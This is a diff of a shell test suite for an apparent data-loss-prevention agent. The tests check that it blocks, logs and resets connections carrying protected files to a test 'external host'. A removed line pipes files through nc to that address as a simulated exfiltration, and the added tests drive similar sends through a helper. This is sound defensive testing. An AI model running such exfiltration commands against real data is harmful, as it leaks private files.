@@ -249,16 +249,20 @@ test_13_monitor_dataset_passes_strictest_wins() {
 	wait $nc
 	for i in $(seq 100); do [ "$(size "$T/r13")" = 3000 ] && break; sleep 0.1; done
 	ASSERT_EQ "$(size "$T/r13")" 3000 "monitored dataset reached the external host"
-	# notes and faces together: the strictest (block) decides.
-	listen "$EXT" tcp 10.197.1.2 9214 "$T/r14" || return 1
-	/usr/bin/cat "$T/notes/n.bin" "$T/ds/a.bin" | /usr/bin/nc -w 3 -N 10.197.1.2 9214 &
-	nc=$!
-	PIDS_TO_KILL="$PIDS_TO_KILL $nc"
-	wait_disposition $nc Blocked
-	ASSERT_EQ "$(size "$T/r14")" 0 "notes+faces blocked"
-	ASSERT_EQ "$($EVQ "$FI" values disposition --where evidences.0.process.pid=$nc --where resources.0.uid=notes)" \
-		Blocked "the monitored dataset's finding says it was blocked too"
-	kill -KILL $nc 2>/dev/null
+	# notes and faces together: the strictest (block) decides, and both findings say so.
+	$SEND connect_after_read 10.197.1.2 9214 "$T/notes/n.bin,$T/ds/a.bin" "$T/s14" &
+	PIDS_TO_KILL="$PIDS_TO_KILL $!"
+	local pid=$!
+	wait_said "$T/s14"
+	ASSERT_EQ "$(said "$T/s14")" "EPERM.$pid" "notes+faces refused"
+	wait_disposition $pid Blocked
+	for i in $(seq 100); do
+		[ "$($EVQ "$FI" count --where evidences.0.process.pid=$pid --where disposition=Blocked)" = 2 ] && break
+		sleep 0.1
+	done
+	ASSERT_EQ "$($EVQ "$FI" values resources.0.uid --where evidences.0.process.pid=$pid --where disposition=Blocked | tr '\n' ' ')" \
+		"faces notes " "the monitored dataset's finding says it was blocked too"
+	kill -KILL $pid 2>/dev/null
 }
 
 test_14_kill_at_send() {
@@ -324,8 +328,26 @@ test_17_status_shows_enforcement() {
 }
 
 test_18_stop_and_replay() {
+	local pid sender i
+	# A stalled connection whose refused bytes sit in its send queue when the agent stops:
+	# the agent resets it before detaching, so no retransmit delivers them afterwards.
+	listen "$EXT" tcp 10.197.1.2 9224 "$T/r9224" || return 1
+	$SEND preconnect_keep 10.197.1.2 9224 "$T/ds/a.bin" "$T/s9224" &
+	pid=$!
+	PIDS_TO_KILL="$PIDS_TO_KILL $pid"
+	wait_said "$T/s9224"
+	sender=$(said "$T/s9224")
+	wait_disposition "${sender#sent.}" Blocked
 	agent_stop
 	ASSERT_EQ "$AGENT_RC" 0 "agent exit status"
+	ASSERT_HAS "$(cat "$T/agent.err")" "blocked connections reset before detaching" "reset at stop"
+	for i in $(seq 100); do
+		[ -z "$(ss -Htn state all dst 10.197.1.2 dport = :9224)" ] && break
+		sleep 0.1
+	done
+	ASSERT_EQ "$(ss -Htn state all dst 10.197.1.2 dport = :9224)" "" "the connection is gone"
+	ASSERT_EQ "$(size "$T/r9224")" 5 "nothing but the preface ever reached the external host"
+	kill -KILL $pid 2>/dev/null
 	"$DATATRAIL" replay "$T/trace" >"$T/replayed.jsonl" 2>"$T/replay.err"
 	ASSERT_EQ "$?" 0 "replay exit status"
 	$EVQ "$FI" values finding_info.uid --where disposition=Blocked >"$T/live.uids"
